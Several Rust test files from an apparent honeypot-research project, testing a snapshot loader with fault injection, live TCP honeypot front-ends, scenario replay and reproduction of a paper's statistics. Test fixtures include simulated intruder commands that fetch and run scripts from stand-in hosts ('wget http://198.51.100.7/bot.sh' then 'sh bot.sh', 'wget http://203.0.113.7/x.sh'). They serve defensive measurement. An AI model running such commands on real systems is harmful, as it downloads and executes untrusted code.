        let bytes = &pristine[..cut];
        match load(bytes) {
            Err(SnapshotError::Truncated { .. }) => {}
            other => panic!(
                "cut at {cut}/{}: expected Truncated, got {other:?}",
                pristine.len()
            ),
        }
    }
}

#[test]
fn unexpected_section_id_is_rejected() {
    let mut bytes = snapshot_bytes();
    // Overwrite the first section's id (META = 1) with a stranger.
    bytes[HEADER..HEADER + 4].copy_from_slice(&42u32.to_le_bytes());
    match load(&bytes) {
        Err(SnapshotError::UnexpectedSection { expected, found }) => {
            assert_eq!(expected, 1);
            assert_eq!(found, 42);
        }
        other => panic!("expected UnexpectedSection, got {other:?}"),
    }
}

#[test]
fn dangling_ssh_version_id_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, len) = spans[rows_idx];
    // Rows payload: prologue, then per-chunk [header ‖ 48-byte rows];
    // ssh_version_id sits at row offset 24. Point it far past the pool and
    // re-stamp the chunk + section checksums so only the semantic validator
    // can object.
    let field = start + ROWS_PROLOGUE + CHUNK_HEADER + 24;
    bytes[field..field + 4].copy_from_slice(&0x7fff_fff0u32.to_le_bytes());
    restamp_rows(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::DanglingId { kind, id }) => {
            assert_eq!(kind, "ssh_version");
            assert_eq!(id, 0x7fff_fff0);
        }
        other => panic!("expected DanglingId, got {other:?}"),
    }
}

#[test]
fn dangling_list_id_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, len) = spans[rows_idx];
    // login_list_id sits at row offset 28.
    let field = start + ROWS_PROLOGUE + CHUNK_HEADER + 28;
    bytes[field..field + 4].copy_from_slice(&0x00ff_ffffu32.to_le_bytes());
    restamp_rows(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::DanglingId { kind, .. }) => assert_eq!(kind, "list"),
        other => panic!("expected DanglingId, got {other:?}"),
    }
}

#[test]
fn corrupt_row_enum_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, len) = spans[rows_idx];
    // protocol byte sits at row offset 22.
    bytes[start + ROWS_PROLOGUE + CHUNK_HEADER + 22] = 9;
    restamp_rows(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "rows"),
        other => panic!("expected Corrupt, got {other:?}"),
    }
}

#[test]
fn lying_interior_length_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let creds_idx = SECTIONS.iter().position(|(_, n)| *n == "creds").unwrap();
    let (start, len) = spans[creds_idx];
    // First string's length field (after the u32 pool count): claim more
    // bytes than the payload holds.
    bytes[start + 4..start + 8].copy_from_slice(&u32::MAX.to_le_bytes());
    restamp(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "creds"),
        other => panic!("expected Corrupt, got {other:?}"),
    }
}

// ---------------------------------------------------------------------------
// Chunk-granular faults in the streaming rows section.

/// A flipped byte inside chunk data is blamed on that exact chunk.
#[test]
fn flipped_chunk_data_names_the_chunk() {
    // Re-chunk to 3 rows/chunk (8 rows → chunks of 3, 3, 2) so a non-zero
    // chunk index is reachable.
    let bytes = rechunk_rows(&snapshot_bytes(), 3);
    load(&bytes).expect("re-chunked snapshot must load");
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, _) = spans[rows_idx];
    for (i, &(off, rows)) in rows_chunks(&bytes, start).iter().enumerate() {
        let mut corrupted = bytes.clone();
        corrupted[off + CHUNK_HEADER + (rows * ROW) / 2] ^= 0x01;
        match load(&corrupted) {
            Err(SnapshotError::ChunkChecksumMismatch { section, chunk }) => {
                assert_eq!(section, "rows");
                assert_eq!(
                    chunk as usize, i,
                    "flip in chunk {i} blamed on chunk {chunk}"
                );
            }
            other => panic!("flip in chunk {i}: expected ChunkChecksumMismatch, got {other:?}"),
        }
    }
}

/// A flipped byte in a chunk's *stored digest* also fails that chunk's
/// verification (the manifest checksum would catch it too, but the chunk
/// check fires first and localizes the damage).
#[test]
fn flipped_chunk_digest_is_caught() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, _) = spans[rows_idx];
    let (off, _) = rows_chunks(&bytes, start)[0];
    bytes[off + 4] ^= 0x80; // first byte of the chunk digest
    match load(&bytes) {
        Err(SnapshotError::ChunkChecksumMismatch { section, chunk }) => {
            assert_eq!((section, chunk), ("rows", 0));
        }
        other => panic!("expected ChunkChecksumMismatch, got {other:?}"),
    }
}

/// A lying chunk count no longer adds up against the declared row count and
/// payload length; the reader rejects it before reading any chunk.
#[test]
fn lying_chunk_count_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, _) = spans[rows_idx];
    bytes[start + 12..start + 16].copy_from_slice(&1000u32.to_le_bytes());
    match load(&bytes) {
        Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "rows"),
        other => panic!("expected Corrupt, got {other:?}"),
    }
}

/// `rows_per_chunk` outside `1..=MAX_ROWS_PER_CHUNK` is rejected up front —
/// a hostile value can never size an allocation.
#[test]
fn lying_rows_per_chunk_is_rejected() {
    for lie in [0u32, u32::MAX] {
        let mut bytes = snapshot_bytes();
        let spans = section_spans(&bytes);
        let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
        let (start, _) = spans[rows_idx];
        bytes[start + 8..start + 12].copy_from_slice(&lie.to_le_bytes());
        match load(&bytes) {
            Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "rows"),
            other => panic!("rows_per_chunk={lie}: expected Corrupt, got {other:?}"),
        }
    }
}

/// A dangling id planted in the *last* chunk is still caught: the reader's
/// per-(role, id) validation memo only skips ids that already validated in
/// earlier chunks, and the prefetching fold delivers the error in chunk
/// order after the clean chunks before it.
#[test]
fn dangling_id_in_a_later_chunk_is_rejected() {
    let mut bytes = rechunk_rows(&snapshot_bytes(), 3);
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, len) = spans[rows_idx];
    let &(off, _) = rows_chunks(&bytes, start).last().unwrap();
    // login_list_id of the final chunk's first row (row offset 28).
    let field = off + CHUNK_HEADER + 28;
    bytes[field..field + 4].copy_from_slice(&0x00ff_fffeu32.to_le_bytes());
    restamp_rows(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::DanglingId { kind, id }) => {
            assert_eq!(kind, "list");
            assert_eq!(id, 0x00ff_fffe);
        }
        other => panic!("expected DanglingId, got {other:?}"),
    }
}

/// Truncation exactly at a chunk boundary (a valid prefix of chunks, then
/// nothing) is a typed truncation error, not a short read of partial data.
#[test]
fn truncation_at_chunk_boundary_is_typed() {
    let bytes = rechunk_rows(&snapshot_bytes(), 3);
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, _) = spans[rows_idx];
    for &(off, rows) in &rows_chunks(&bytes, start)[1..] {
        // Cut right where this chunk's header should begin, and again right
        // after its header (header read OK, data missing).
        for cut in [off, off + CHUNK_HEADER, off + CHUNK_HEADER + rows * ROW - 1] {
            match load(&bytes[..cut]) {
                Err(SnapshotError::Truncated { .. }) => {}
                other => panic!("cut at {cut}: expected Truncated, got {other:?}"),
            }
        }
    }
}

#[test]
fn empty_input_is_truncated_header() {
    match load(&[]) {
        Err(SnapshotError::Truncated { section }) => assert_eq!(section, "header"),
        other => panic!("expected Truncated header, got {other:?}"),
    }
}

#[test]
fn garbage_input_is_bad_magic() {
    let garbage = [0xA5u8; 64];
    match load(&garbage) {
        Err(SnapshotError::BadMagic { .. }) => {}
        other => panic!("expected BadMagic, got {other:?}"),
    }
}
