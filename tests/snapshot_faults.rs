//! Fault-injection suite for the hfstore loader: flip bytes, truncate
//! sections, plant dangling ids — every corruption must surface as the
//! right typed [`SnapshotError`], never a panic or a silent mis-read.

use honeyfarm::farm::snapshot::{FORMAT_VERSION, MAGIC, SECTIONS};
use honeyfarm::farm::{FarmPlan, SessionStore, Snapshot, SnapshotError, SnapshotMeta, TagDb};
use honeyfarm::geo::Ip4;
use honeyfarm::hash::Sha256;
use honeyfarm::honeypot::{EndReason, LoginAttempt, SessionRecord};
use honeyfarm::proto::creds::Credentials;
use honeyfarm::proto::Protocol;
use honeyfarm::shell::CommandRecord;
use honeyfarm::simclock::SimInstant;

/// Header size: magic + version + section count.
const HEADER: usize = 8 + 4 + 4;
/// Per-section frame: id (u32) + len (u64) + sha-256 (32 bytes).
const FRAME: usize = 4 + 8 + 32;

fn record(n: u64) -> SessionRecord {
    SessionRecord {
        honeypot: (n % 221) as u16,
        protocol: Protocol::Ssh,
        client_ip: Ip4::new(16, 0, n as u8, 1),
        client_port: 40_000,
        start: SimInstant::from_day_and_secs((n % 7) as u32, 60 * n as u32),
        duration_secs: 30,
        ended_by: EndReason::ClientClose,
        ssh_client_version: Some("SSH-2.0-Go".into()),
        logins: vec![LoginAttempt {
            creds: Credentials::new("root", "1234"),
            accepted: true,
        }],
        commands: vec![CommandRecord {
            input: format!("wget http://evil/{n}"),
            known: true,
        }],
        uris: vec![format!("http://evil/{n}")],
        file_hashes: vec![Sha256::digest(&n.to_le_bytes())],
        download_hashes: vec![Sha256::digest(&n.to_be_bytes())],
    }
}

/// A small but fully-populated snapshot serialized to bytes.
fn snapshot_bytes() -> Vec<u8> {
    let mut store = SessionStore::new();
    let mut tags = TagDb::new();
    for n in 0..8 {
        let r = record(n);
        for h in r.file_hashes.iter().chain(r.download_hashes.iter()) {
            tags.record(*h, "mirai", "H1");
        }
        store.ingest(&r, None);
    }
    let snap = Snapshot {
        meta: SnapshotMeta {
            seed: 1,
            scale_volume: 0.001,
            scale_hashes: 0.03,
            days: 7,
            n_clients: 8,
        },
        plan: FarmPlan::paper(),
        sessions: store,
        tags,
    };
    let mut bytes = Vec::new();
    snap.write_to(&mut bytes).expect("write snapshot");
    bytes
}

fn load(bytes: &[u8]) -> Result<Snapshot, SnapshotError> {
    Snapshot::read_from(&mut &bytes[..])
}

/// Walk the section frames, returning `(payload_start, payload_len)` per
/// section in file order.
fn section_spans(bytes: &[u8]) -> Vec<(usize, usize)> {
    let mut spans = Vec::new();
    let mut off = HEADER;
    for _ in SECTIONS {
        let len =
            u64::from_le_bytes(bytes[off + 4..off + 12].try_into().expect("len field")) as usize;
        spans.push((off + FRAME, len));
        off += FRAME + len;
    }
    assert_eq!(off, bytes.len(), "walk must cover the whole file");
    spans
}

/// Re-stamp a section's checksum after deliberately editing its payload
/// (to reach validation layers deeper than the checksum).
fn restamp(bytes: &mut [u8], payload_start: usize, payload_len: usize) {
    let digest = Sha256::digest(&bytes[payload_start..payload_start + payload_len]);
    bytes[payload_start - 32..payload_start].copy_from_slice(&digest.0);
}

#[test]
fn pristine_snapshot_loads() {
    let bytes = snapshot_bytes();
    let snap = load(&bytes).expect("pristine snapshot must load");
    assert_eq!(snap.sessions.len(), 8);
    // 8 file + 8 download hashes, but n = 0 encodes identically in LE and
    // BE so its pair collapses to one digest.
    assert_eq!(snap.tags.len(), 15);
}

#[test]
fn bad_magic_is_rejected() {
    let mut bytes = snapshot_bytes();
    bytes[0] ^= 0xff;
    match load(&bytes) {
        Err(SnapshotError::BadMagic { found }) => assert_ne!(found, MAGIC),
        other => panic!("expected BadMagic, got {other:?}"),
    }
}

#[test]
fn version_mismatch_is_rejected() {
    let mut bytes = snapshot_bytes();
    bytes[8..12].copy_from_slice(&99u32.to_le_bytes());
    match load(&bytes) {
        Err(SnapshotError::UnsupportedVersion { found, supported }) => {
            assert_eq!(found, 99);
            assert_eq!(supported, FORMAT_VERSION);
        }
        other => panic!("expected UnsupportedVersion, got {other:?}"),
    }
}

#[test]
fn flipped_byte_in_every_section_is_caught_by_its_checksum() {
    let pristine = snapshot_bytes();
    let spans = section_spans(&pristine);
    assert_eq!(spans.len(), SECTIONS.len());
    for (i, &(start, len)) in spans.iter().enumerate() {
        let (_, name) = SECTIONS[i];
        assert!(len > 0, "section {name} must have a payload to corrupt");
        let mut bytes = pristine.clone();
        bytes[start + len / 2] ^= 0x40;
        match load(&bytes) {
            Err(SnapshotError::ChecksumMismatch { section }) => {
                assert_eq!(section, name, "flip in {name} blamed on {section}");
            }
            other => panic!("flip in {name}: expected ChecksumMismatch, got {other:?}"),
        }
    }
}

#[test]
fn truncation_anywhere_is_a_typed_error() {
    let pristine = snapshot_bytes();
    // Cut the file at a spread of boundaries: inside the header, inside
    // each section frame, inside each payload, and just before the end.
    let mut cuts = vec![0, 1, HEADER - 1, HEADER, pristine.len() - 1];
    for &(start, len) in &section_spans(&pristine) {
        cuts.push(start - FRAME + 2); // mid section-id
        cuts.push(start - 20); // mid checksum
        cuts.push(start + len / 2); // mid payload
    }
    for cut in cuts {
        let bytes = &pristine[..cut];
        match load(bytes) {
            Err(SnapshotError::Truncated { .. }) => {}
            other => panic!(
                "cut at {cut}/{}: expected Truncated, got {other:?}",
                pristine.len()
            ),
        }
    }
}

#[test]
fn unexpected_section_id_is_rejected() {
    let mut bytes = snapshot_bytes();
    // Overwrite the first section's id (META = 1) with a stranger.
    bytes[HEADER..HEADER + 4].copy_from_slice(&42u32.to_le_bytes());
    match load(&bytes) {
        Err(SnapshotError::UnexpectedSection { expected, found }) => {
            assert_eq!(expected, 1);
            assert_eq!(found, 42);
        }
        other => panic!("expected UnexpectedSection, got {other:?}"),
    }
}

#[test]
fn dangling_ssh_version_id_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, len) = spans[rows_idx];
    // Rows payload: count (u64) then 48-byte rows; ssh_version_id sits at
    // row offset 24. Point it far past the pool and re-stamp the checksum
    // so only the semantic validator can object.
    let field = start + 8 + 24;
    bytes[field..field + 4].copy_from_slice(&0x7fff_fff0u32.to_le_bytes());
    restamp(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::DanglingId { kind, id }) => {
            assert_eq!(kind, "ssh_version");
            assert_eq!(id, 0x7fff_fff0);
        }
        other => panic!("expected DanglingId, got {other:?}"),
    }
}

#[test]
fn dangling_list_id_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, len) = spans[rows_idx];
    // login_list_id sits at row offset 28.
    let field = start + 8 + 28;
    bytes[field..field + 4].copy_from_slice(&0x00ff_ffffu32.to_le_bytes());
    restamp(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::DanglingId { kind, .. }) => assert_eq!(kind, "list"),
        other => panic!("expected DanglingId, got {other:?}"),
    }
}

#[test]
fn corrupt_row_enum_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let rows_idx = SECTIONS.iter().position(|(_, n)| *n == "rows").unwrap();
    let (start, len) = spans[rows_idx];
    // protocol byte sits at row offset 22.
    bytes[start + 8 + 22] = 9;
    restamp(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "rows"),
        other => panic!("expected Corrupt, got {other:?}"),
    }
}

#[test]
fn lying_interior_length_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let creds_idx = SECTIONS.iter().position(|(_, n)| *n == "creds").unwrap();
    let (start, len) = spans[creds_idx];
    // First string's length field (after the u32 pool count): claim more
    // bytes than the payload holds.
    bytes[start + 4..start + 8].copy_from_slice(&u32::MAX.to_le_bytes());
    restamp(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "creds"),
        other => panic!("expected Corrupt, got {other:?}"),
    }
}

#[test]
fn empty_input_is_truncated_header() {
    match load(&[]) {
        Err(SnapshotError::Truncated { section }) => assert_eq!(section, "header"),
        other => panic!("expected Truncated header, got {other:?}"),
    }
}

#[test]
fn garbage_input_is_bad_magic() {
    let garbage = [0xA5u8; 64];
    match load(&garbage) {
        Err(SnapshotError::BadMagic { .. }) => {}
        other => panic!("expected BadMagic, got {other:?}"),
    }
}
