//! Root-level integration: the live TCP front-end feeds the same analysis
//! pipeline as the simulator — a record captured over a real socket
//! classifies and reports identically.
//!
//! The live front-end (`hf-wire`) needs Tokio and is parked while builds
//! run offline (no crates.io access; see crates/wire/Cargo.toml). The
//! socket-driven half below is an `#[ignore]`d stub that *skips* cleanly
//! instead of panicking, so `cargo test -- --ignored` stays green; the
//! classify-identically intent is exercised offline through the testkit's
//! scenario replay, which drives the same session state machine the wire
//! front-end wraps.

use honeyfarm::core::classify::Category;
use honeyfarm::testkit::scenario::classify_record;
use honeyfarm::testkit::Scenario;

#[test]
#[ignore = "hf-wire (Tokio TCP front-end) is excluded from offline builds"]
fn live_sessions_classify_like_simulated_ones() {
    // Intentionally a skip, not a failure: the assertion below documents
    // what the socket test will check once hf-wire is restored, and the
    // offline scenario test next door keeps the pipeline half honest.
    eprintln!(
        "skipped: restore the hf-wire workspace member (root Cargo.toml) to \
         drive this over a real socket"
    );
}

/// The offline half of the intent: a scripted intruder session produces a
/// record that classifies exactly like its simulated counterpart —
/// regardless of whether the bytes arrived over TCP or through the driver.
#[test]
fn replayed_sessions_classify_like_simulated_ones() {
    let cases = [
        ("name scan\nclose\n", Category::NoCred),
        (
            "name brute\nlogin root root\nlogin admin admin\nlogin root root\n",
            Category::FailLog,
        ),
        (
            "name lurker\nlogin root hunter2\nidle 400\n",
            Category::NoCmd,
        ),
        (
            "name recon\nlogin root 1234\ncmd uname -a\ncmd free -m\nclose\n",
            Category::Cmd,
        ),
        (
            "name dropper\nlogin root 1234\ncmd wget http://198.51.100.7/bot.sh\n\
             transfer 30\ncmd sh bot.sh\nclose\n",
            Category::CmdUri,
        ),
    ];
    for (text, want) in cases {
        let scenario = Scenario::parse(text).expect("scenario parses");
        let record = scenario.replay();
        assert_eq!(
            classify_record(&record),
            want,
            "scenario {:?} must classify as {:?}\nevent log:\n{}",
            scenario.name,
            want,
            scenario.event_log()
        );
    }
}
