//! Root-level integration: the live TCP front-end feeds the same analysis
//! pipeline as the simulator — a record captured over a real socket
//! classifies and reports identically.

use honeyfarm::core::classify::{classify, Category};
use honeyfarm::farm::SessionStore;
use honeyfarm::proto::Protocol;
use honeyfarm::wire::{AttackClient, AttackScript, LiveFarm, LiveFarmConfig};

#[tokio::test]
async fn live_sessions_classify_like_simulated_ones() {
    let farm = LiveFarm::start(LiveFarmConfig::default()).await.unwrap();
    let n0 = farm.nodes[0];
    let n1 = farm.nodes[1];

    // One of each behaviour class, over real TCP.
    AttackClient::run(n0.telnet, &AttackScript::scan(Protocol::Telnet))
        .await
        .unwrap();
    AttackClient::run(
        n0.ssh,
        &AttackScript::scout(Protocol::Ssh, &[("root", "root"), ("admin", "x")]),
    )
    .await
    .unwrap();
    AttackClient::run(
        n1.ssh,
        &AttackScript::intrusion(
            Protocol::Ssh,
            "dreambox",
            &["uname -a", "cd /tmp; wget http://203.0.113.7/x.sh", "chmod 777 x.sh"],
        ),
    )
    .await
    .unwrap();

    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let records = farm.shutdown();
    assert_eq!(records.len(), 3);

    let mut store = SessionStore::new();
    for r in &records {
        store.ingest(r, None);
    }
    let mut cats: Vec<Category> = store.iter().map(|v| classify(&v)).collect();
    cats.sort();
    assert_eq!(
        cats,
        vec![Category::NoCred, Category::FailLog, Category::CmdUri]
    );

    // The intrusion captured its URI and download hash over the wire.
    let uri_session = store
        .iter()
        .find(|v| classify(v) == Category::CmdUri)
        .unwrap();
    assert_eq!(
        uri_session.uris().collect::<Vec<_>>(),
        vec!["http://203.0.113.7/x.sh"]
    );
    assert_eq!(uri_session.hash_ids().len(), 1);
    assert!(uri_session.ssh_version().unwrap().starts_with("SSH-2.0-"));
}
