//! Root-level integration: the live TCP front-end feeds the same analysis
//! pipeline as the simulator — a record captured over a real socket
//! classifies and reports identically.
//!
//! The live front-end (`hf-wire`) needs Tokio and is parked while builds
//! run offline (no crates.io access; see crates/wire/Cargo.toml). This
//! placeholder keeps the test target and its intent visible; the original
//! socket-driven assertions are preserved in git history and come back
//! with the crate.

#[test]
#[ignore = "hf-wire (Tokio TCP front-end) is excluded from offline builds"]
fn live_sessions_classify_like_simulated_ones() {
    panic!("restore the hf-wire workspace member to run this test");
}
