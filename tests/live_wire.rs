//! Wire-level conformance: every `.hfs` scenario replayed over a live
//! loopback socket produces a session record, event log, and taxonomy
//! classification *identical* to the simulator path (`Scenario::replay`).
//!
//! This is the proof that `hf-wire` exposes the same honeypot the paper's
//! pipeline measures: the bytes travel through a real TCP connection, the
//! epoll reactor, Telnet/SSH framing, and the collector channel — and come
//! out bit-for-bit equal to the in-process replay under the testkit's
//! field-level diff oracles.

use std::path::PathBuf;
use std::time::Duration;

use honeyfarm::farm::{Collector, FarmPlan};
use honeyfarm::geo::{World, WorldConfig};
use honeyfarm::testkit::oracle::diff_datasets;
use honeyfarm::testkit::scenario::classify_record;
use honeyfarm::testkit::{check_golden, Scenario};
use honeyfarm::wire::{run_script, wire_script, FarmConfig, LiveFarm, Timing};

fn corpus() -> Vec<(PathBuf, Scenario)> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/scenarios");
    let mut paths: Vec<PathBuf> = std::fs::read_dir(&dir)
        .expect("scenario dir")
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "hfs"))
        .collect();
    paths.sort();
    assert!(!paths.is_empty(), "scenario corpus is empty");
    paths
        .into_iter()
        .map(|p| {
            let sc = Scenario::load(&p).expect("scenario parses");
            (p, sc)
        })
        .collect()
}

/// A farm sized and configured so the wire path is bit-comparable to
/// `Scenario::replay()`: script-driven timing, the replay's default system
/// profile on every node, and one node per scenario honeypot index.
fn conformance_farm(nodes: u16) -> LiveFarm {
    LiveFarm::start(FarmConfig {
        nodes,
        timing: Timing::Virtual,
        uniform_profile: true,
        keep_records: true,
        wall_timeout_secs: 60,
        per_ip_cap: 1 << 30,
        ..FarmConfig::default()
    })
    .expect("start farm")
}

#[test]
fn every_scenario_is_bit_identical_over_the_wire() {
    let corpus = corpus();
    let nodes = corpus.iter().map(|(_, sc)| sc.honeypot + 1).max().unwrap();
    let farm = conformance_farm(nodes);
    let timeout = Duration::from_secs(30);

    // Drive each scenario over a real socket, in deterministic order; the
    // collector ingests sequentially so record order matches drive order.
    let mut expected = Vec::new();
    for (path, sc) in &corpus {
        let addr = match sc.protocol {
            honeyfarm::proto::Protocol::Ssh => farm.nodes()[sc.honeypot as usize].ssh,
            honeyfarm::proto::Protocol::Telnet => farm.nodes()[sc.honeypot as usize].telnet,
        };
        let script = wire_script(sc);
        run_script(addr, &script, timeout)
            .unwrap_or_else(|e| panic!("{}: socket error {e}", path.display()));
        expected.push(sc.replay());
    }
    let out = farm.shutdown();
    assert!(out.stats.accounting_balanced());
    assert_eq!(out.records.len(), corpus.len(), "one record per scenario");

    // Field-level equality, event-log goldens, and taxonomy agreement.
    for (((path, sc), wire_rec), replay_rec) in corpus.iter().zip(&out.records).zip(&expected) {
        assert_eq!(
            wire_rec,
            replay_rec,
            "{}: wire record differs from simulator replay",
            path.display()
        );
        assert_eq!(
            classify_record(wire_rec),
            classify_record(replay_rec),
            "{}: taxonomy class differs",
            path.display()
        );
        let log = honeyfarm::testkit::scenario::render_event_log(&sc.name, wire_rec);
        let golden = path.with_extension("golden");
        check_golden(&golden, &log)
            .unwrap_or_else(|e| panic!("{}: wire event log vs golden: {e}", path.display()));
    }

    // Dataset-level equivalence: the wire collector's columnar output is
    // identical to a collector fed the replay records directly.
    let world = World::build(0, &WorldConfig::tiny());
    let mut collector = Collector::new(&world, FarmPlan::paper());
    for rec in &expected {
        collector.ingest(rec);
    }
    let replay_ds = collector.finish();
    diff_datasets("wire", &out.dataset, "replay", &replay_ds).assert_identical();
}

/// The loopback mirror of the deployment plan keeps per-node identity: a
/// scenario pinned to honeypot N comes back with `honeypot == N` because it
/// really connected to node N's own listener address.
#[test]
fn node_identity_survives_the_wire() {
    let farm = conformance_farm(8);
    let sc = Scenario::parse("name pin\nprotocol ssh\nhoneypot 7\nlogin root pw\nclose\n")
        .expect("scenario");
    run_script(
        farm.nodes()[7].ssh,
        &wire_script(&sc),
        Duration::from_secs(10),
    )
    .expect("drive");
    let out = farm.shutdown();
    assert_eq!(out.records.len(), 1);
    assert_eq!(out.records[0].honeypot, 7);
    assert_eq!(out.records[0], sc.replay());
}
