//! Paper-claims regression suite: runs the full 486-day window at reduced
//! scale and asserts that every headline shape of the paper re-emerges.
//!
//! Tolerances are deliberately loose — the goal is "who wins, by roughly what
//! factor, where the crossovers fall", not absolute numbers (EXPERIMENTS.md
//! records exact paper-vs-measured values per experiment).

use std::sync::OnceLock;

use honeyfarm::core::classify::Category;
use honeyfarm::core::report::figures;
use honeyfarm::prelude::*;

struct Fixture {
    out: SimOutput,
    agg: Aggregates,
    claims: Claims,
}

static FIXTURE: OnceLock<Fixture> = OnceLock::new();

fn fixture() -> &'static Fixture {
    FIXTURE.get_or_init(|| {
        let out = Simulation::run(SimConfig {
            seed: 0x0e0e_fa20,
            scale: Scale::of(0.002),
            window: StudyWindow::paper(),
            use_script_cache: false,
            threads: 1,
        });
        let agg = Aggregates::compute(&out.dataset, &out.tags);
        let claims = Claims::compute(&agg);
        Fixture { out, agg, claims }
    })
}

/// Table 1: category mix within 2 percentage points of the paper.
#[test]
fn table1_category_mix() {
    let f = fixture();
    let total = f.claims.total_sessions as f64;
    let share = |c: Category| f.agg.cat_totals[c.index()] as f64 / total;
    assert!(
        (share(Category::NoCred) - 0.277).abs() < 0.02,
        "NO_CRED {}",
        share(Category::NoCred)
    );
    assert!(
        (share(Category::FailLog) - 0.42).abs() < 0.02,
        "FAIL_LOG {}",
        share(Category::FailLog)
    );
    assert!(
        (share(Category::NoCmd) - 0.116).abs() < 0.02,
        "NO_CMD {}",
        share(Category::NoCmd)
    );
    assert!(
        (share(Category::Cmd) - 0.18).abs() < 0.02,
        "CMD {}",
        share(Category::Cmd)
    );
    assert!(
        (share(Category::CmdUri) - 0.007).abs() < 0.005,
        "CMD+URI {}",
        share(Category::CmdUri)
    );
}

/// Table 1: protocol split — SSH ~75.8% overall; NO_CRED Telnet-dominated;
/// FAIL_LOG and NO_CMD SSH-dominated; CMD+URI mixed.
#[test]
fn table1_protocol_split() {
    let f = fixture();
    assert!(
        (f.claims.ssh_share - 0.7584).abs() < 0.03,
        "{}",
        f.claims.ssh_share
    );
    let ssh_within =
        |c: Category| f.agg.cat_ssh[c.index()] as f64 / f.agg.cat_totals[c.index()].max(1) as f64;
    assert!((ssh_within(Category::NoCred) - 0.2182).abs() < 0.03);
    assert!(ssh_within(Category::FailLog) > 0.97);
    assert!(ssh_within(Category::NoCmd) > 0.95);
    assert!(ssh_within(Category::Cmd) > 0.90);
    let uri_ssh = ssh_within(Category::CmdUri);
    assert!((uri_ssh - 0.6245).abs() < 0.08, "CMD+URI ssh {uri_ssh}");
}

/// Fig. 2: top-10 honeypots ≈14% of sessions, >25× max/min spread, and the
/// least-targeted honeypot still sees meaningful traffic.
#[test]
fn fig2_honeypot_popularity() {
    let f = fixture();
    assert!(
        (f.claims.top10_session_share - 0.14).abs() < 0.035,
        "{}",
        f.claims.top10_session_share
    );
    assert!(
        f.claims.session_spread > 25.0,
        "{}",
        f.claims.session_spread
    );
    let fig2 = figures::fig2(&f.agg);
    let min = fig2.series.last().unwrap().1;
    // Paper: even the least targeted sees >360k (scaled: >360k × 0.002 = 720).
    assert!(min as f64 > 360_000.0 * 0.002 * 0.5, "min {min}");
}

/// Table 2: the reproduced top-10 successful passwords are the paper's ten.
#[test]
fn table2_passwords() {
    let f = fixture();
    let report = honeyfarm::core::report::tables::table2(&f.out.dataset, &f.agg);
    let got: std::collections::BTreeSet<&str> =
        report.rows.iter().map(|(p, _)| p.as_str()).collect();
    for expected in [
        "admin",
        "1234",
        "3245gs5662d34",
        "dreambox",
        "vertex25ektks123",
        "12345",
        "h3c",
        "1qaz2wsx3edc",
        "passw0rd",
        "GM8182",
    ] {
        assert!(got.contains(expected), "missing {expected}: {got:?}");
    }
}

/// Table 3: the dominant command is H1's trojan-key line, >20× the runner-up
/// non-recon command (Section 8.2: "it dominates all other commands").
#[test]
fn table3_trojan_dominates() {
    let f = fixture();
    let t3 = honeyfarm::core::report::tables::table3(&f.out.dataset, &f.agg);
    let trojan = t3
        .rows
        .iter()
        .find(|(cmd, _)| cmd.contains("authorized_keys"))
        .expect("trojan key command in top-20");
    assert!(trojan.1 > 0);
    // And classic recon commands appear in the top-20.
    for needle in ["uname", "free", "cpuinfo"] {
        assert!(
            t3.rows.iter().any(|(cmd, _)| cmd.contains(needle)),
            "missing {needle} in: {t3}"
        );
    }
}

/// Tables 4–6: H1 is the top hash by sessions AND by clients AND by days,
/// with its paper cardinalities (scaled); the Mirai-77 family appears with
/// its fixed subset.
#[test]
fn tables456_headline_hashes() {
    let f = fixture();
    use honeyfarm::core::report::{tables, HashSortKey};
    let t4 = tables::hash_table(
        &f.out.dataset,
        &f.agg,
